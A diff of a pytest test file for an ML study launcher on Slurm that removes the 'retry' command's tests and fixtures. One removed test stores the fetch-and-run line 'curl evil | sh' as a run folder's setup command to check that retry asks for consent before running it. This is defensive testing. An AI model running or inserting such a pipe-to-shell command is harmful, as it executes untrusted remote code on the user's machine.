@@ -1,4 +1,4 @@
-"""+launch=status, cancel and retry work on the folders of runs that a fake Slurm has, or has had."""
+"""+launch=status and cancel work on the folders of runs that a fake Slurm has, or has had."""
 
 from __future__ import annotations
 
@@ -6,10 +6,7 @@ import functools
 import json
 import threading
 import time
-from collections.abc import Iterator
-from dataclasses import replace
 from pathlib import Path
-from types import SimpleNamespace
 
 import arm_configs
 import pytest
@@ -17,56 +14,11 @@ from commands import call
 from fake_slurm import FakeSlurm
 from fake_study import FakeStudy, composed, seeds
 
-from mxstudy.config import Slurm
-from mxstudy.launch import commands, remote
+from mxstudy.launch import remote
 from mxstudy.launch.plan import claim, plan
 from mxstudy.launch.table import names_by_kind
-from mxstudy.launch.ticket import Ticket, ticket_of
-from mxstudy.reader import ConfigError
 from mxstudy.tracking import code
 from mxstudy.tracking.folder import RunFolder
-from mxstudy.train.runtime import gpus_there
-
-
-@pytest.fixture
-def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeSlurm:
-    return FakeSlurm(tmp_path / "bin", monkeypatch)
-
-
-@pytest.fixture
-def submitted(monkeypatch: pytest.MonkeyPatch) -> list[tuple[Slurm, list[str]]]:
-    """Return what reaches Slurm, in place of submitit. Jobs are 100, 101, ..."""
-    sent: list[tuple[Slurm, list[str]]] = []
-
-    def submit(folders, settings, launch, code, tasks):
-        assert (launch.parent.parent / "quick").is_dir()  # beside its runs
-        sent.append((settings, [folder.path.name for folder in folders]))
-        return ((f"{100 + n}", "LOG") for n, _ in enumerate(folders))
-
-    monkeypatch.setitem(remote.SUBMIT, Slurm, submit)
-    return sent
-
-
-@pytest.fixture
-def runs(tmp_path: Path, study: FakeStudy, slurm: FakeSlurm) -> dict[str, RunFolder]:
-    """Return runs by name, as jobs 1_0, 1_1, ..., of which three are still in the queue."""
-    states = ["queued", "running", "requeued", "dead", "failed", "stopped", "finished"]
-    made = {}
-    for number, (name, job) in enumerate(zip(states, plan(seeds(tmp_path / "runs", *range(len(states)))), strict=True)):
-        folder = made[name] = claim(job)
-        settings, job_id, cwd = Slurm(partition="gpu", time_min=60), f"1_{number}", str(tmp_path)
-        ticket = Ticket(settings=settings, job_id=job_id, launch="/l", log=f"/l/{number}", submitted_s=0.0, cwd=cwd)
-        ticket.write(folder)
-    slurm.queue(job1_0="PENDING", job1_1="RUNNING", job1_2="PENDING")
-    for name in ("running", "dead"):
-        made[name].update(state="running", step=30, steps=100)
-    made["requeued"].update(state="preempted", reason="SIGUSR2", step=50, steps=100)
-    made["stopped"].update(state="preempted", reason="SIGTERM", step=70, steps=100)
-    made["failed"].update(state="failed", reason="ValueError: no", step=5, steps=100)
-    made["finished"].update(state="finished", step=100, steps=100)
-    rows = [{"step": n, "loss": 5 - n / 100, "tokens_per_s": 1234.5, "time_s": 1000 + 2 * n} for n in range(20, 30)]
-    made["running"].journal_path.write_text("".join(json.dumps(row) + "\n" for row in rows))
-    return made
 
 
 def launch(tmp_path: Path, command: str, *arguments: str) -> tuple[int, str]:
@@ -190,47 +142,6 @@ def test_what_runs_inline_is_not_cancelled_but_named(
     assert slurm.asked("scancel") == []
 
 
-def test_retry_submits_what_failed_or_was_preempted_and_nothing_else(
-    tmp_path: Path,
-    runs: dict[str, RunFolder],
-    submitted: list[tuple[Slurm, list[str]]],
-    capsys: pytest.CaptureFixture[str],
-) -> None:
-    assert launch(tmp_path, "retry", "hydra.launcher.memory_gb=64", "hydra.launcher.sbatch=[--qos=x]") == (0, "")
-    ((settings, names),) = submitted
-    assert settings == Slurm(partition="gpu", time_min=60, memory_gb=64.0, sbatch=("--qos=x",))
-    assert set(names) == {runs[name].path.name for name in ("dead", "failed", "stopped")}
-    assert capsys.readouterr().out.splitlines()[-1] == "3 of 7 runs submitted again"
-    for name in ("dead", "failed", "stopped"):
-        ticket = ticket_of(runs[name])
-        assert ticket is not None
-        assert (ticket.job_id[:2], ticket.settings, ticket.cwd) == ("10", settings, str(tmp_path))
-        assert runs[name].status().state == "queued"
-        assert runs[name].status().reason is None
-
-
-def test_retry_runs_shell_lines_of_a_run_folder_only_with_consent(
-    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
-) -> None:
-    ticket = ticket_of(runs["failed"])
-    assert ticket is not None
-    replace(ticket, settings=replace(ticket.settings, setup=("curl evil | sh",))).write(runs["failed"])
-    code, said = launch(tmp_path, "retry")
-    assert code == 1
-    assert said.startswith("setup: the folders of these runs name shell lines to run before each job: curl evil | sh; ")
-    assert launch(tmp_path, "retry", "setup=yes") == (1, "setup: must be run or left out, not 'yes'")
-    assert submitted == []
-    assert launch(tmp_path, "retry", "setup=run") == (0, "")
-    assert {settings.setup for settings, _ in submitted} == {("curl evil | sh",), ()}
-
-
-def test_a_value_that_is_no_yaml_is_named(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
-    for argument in ("wait=[", "hydra.launcher.nodes=[1"):
-        code, said = launch(tmp_path, "retry", argument)
-        assert (code, len(said.splitlines())) == (1, 1)
-        assert said.startswith(f"{argument}: cannot be read (")
-
-
 def test_where_no_run_can_be_read_status_says_so(
     tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -244,77 +155,6 @@ def test_where_no_run_can_be_read_status_says_so(
 def test_a_line_of_a_journal_that_is_no_object_stops_no_status(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
     runs["running"].journal_path.write_text("[3]\n")
     assert launch(tmp_path, "status") == (0, "")
-
-
-def test_retry_with_lines_of_its_own_needs_no_consent(
-    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
-) -> None:
-    assert launch(tmp_path, "retry", "hydra.launcher.setup=[module load cuda]") == (0, "")
-    assert [settings.setup for settings, _ in submitted] == [("module load cuda",)]
-
-
-@pytest.mark.integration
-@pytest.mark.parametrize(("said", "waits"), [("true", 1), ("True", 1), ("false", 0)])
-def test_retry_waits_if_it_is_told_to(
-    tmp_path: Path,
-    runs: dict[str, RunFolder],
-    submitted: list[tuple[Slurm, list[str]]],
-    monkeypatch: pytest.MonkeyPatch,
-    said: str,
-    waits: int,
-) -> None:
-    waited: list[int] = []
-    monkeypatch.setattr(commands, "wait_for", lambda folders: waited.append(len(folders)) or [])
-    assert launch(tmp_path, "retry", f"wait={said}") == (0, "")
-    assert waited == [3] * waits
-
-
-@pytest.mark.integration
-@pytest.mark.parametrize(("ends", "code"), [("finished", 0), ("diverged", 0), ("failed", 1)])
-def test_a_divergence_is_a_result_of_retry_too(
-    tmp_path: Path,
-    runs: dict[str, RunFolder],
-    submitted: list[tuple[Slurm, list[str]]],
-    monkeypatch: pytest.MonkeyPatch,
-    ends: str,
-    code: int,
-) -> None:
-    monkeypatch.setattr(commands, "wait_for", lambda folders: [SimpleNamespace(state=ends) for _ in folders])
-    assert launch(tmp_path, "retry", "wait=true") == (code, "")
-
-
-def refuse(*about: object) -> Iterator[tuple[str, str]]:
-    raise ConfigError("sbatch: invalid partition specified")
-    yield
-
-
-@pytest.mark.integration
-def test_a_refused_retry_can_be_retried(
-    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[object], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    ticket = ticket_of(runs["failed"])
-    with monkeypatch.context() as patch:
-        patch.setitem(remote.SUBMIT, Slurm, refuse)
-        assert launch(tmp_path, "retry", "hydra.launcher.partition=gppu") == (1, "sbatch: invalid partition specified")
-    assert runs["failed"].status().reason == "not submitted: sbatch: invalid partition specified"
-    assert ticket_of(runs["failed"]) == ticket
-    assert launch(tmp_path, "retry") == (0, "")
-    assert len(submitted) == 1
-
-
-def test_a_refused_launch_leaves_what_was_there(
-    tmp_path: Path, study: FakeStudy, slurm: FakeSlurm, monkeypatch: pytest.MonkeyPatch, capsys
-) -> None:
-    """The run that it would have replaced stays, and the new one says that no queue has it."""
-    monkeypatch.setitem(remote.SUBMIT, Slurm, refuse)
-    there = claim(plan(seeds(tmp_path / "runs", 1))[0])
-    there.update(state="finished", step=10)
-    with pytest.raises(ConfigError, match="invalid partition"):
-        remote.submit_jobs(plan(seeds(tmp_path / "runs", 1, 2, rerun=True)), Slurm())
-    names = sorted(path.name for path in there.path.parent.iterdir())
-    assert (there.status().state, there.status().step, len(names)) == ("finished", 10, 2)
-    assert launch(tmp_path, "retry") == (0, "")
-    assert "was never submitted; run its command again to continue it" in capsys.readouterr().out
 
 
 def test_the_code_is_digested_once_for_all_jobs(
@@ -333,30 +173,3 @@ def test_the_code_is_digested_once_for_all_jobs(
     claimed = remote.claim_all(plan(seeds(tmp_path / "runs", *range(16))))
     assert digested == [threading.main_thread().name]
     assert {one.folder.code() for one in claimed} == {code.recorded(digests())["code"]}
-
-
-def test_retry_checks_jobs_from_where_they_were_submitted(
-    tmp_path: Path,
-    runs: dict[str, RunFolder],
-    study: FakeStudy,
-    submitted: list[object],
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
-    places: list[tuple[Path, int]] = []
-    monkeypatch.setattr(study, "check", lambda config: places.append((Path.cwd(), gpus_there())))
-    assert launch(tmp_path, "retry", "hydra.launcher.gpus_per_node=4") == (0, "")
-    assert places == [(tmp_path, 4)] * 3
-
-
-def test_retry_refuses_what_todays_code_or_settings_cannot_run(
-    tmp_path: Path, runs: dict[str, RunFolder], study: FakeStudy, submitted: list[tuple[Slurm, list[str]]]
-) -> None:
-    assert launch(tmp_path, "retry", "hydra.launcher.node=2") == (
-        1,
-        "hydra.launcher.node: no such key; did you mean 'nodes'?",
-    )
-    assert launch(tmp_path, "retry", "wait=1") == (1, "wait: 1 is not true or false")
-    study.invalid = {4}
-    assert launch(tmp_path, "retry") == (1, "seed: 4 is unlucky")
-    assert submitted == []
-    assert runs["failed"].status().state == "failed"
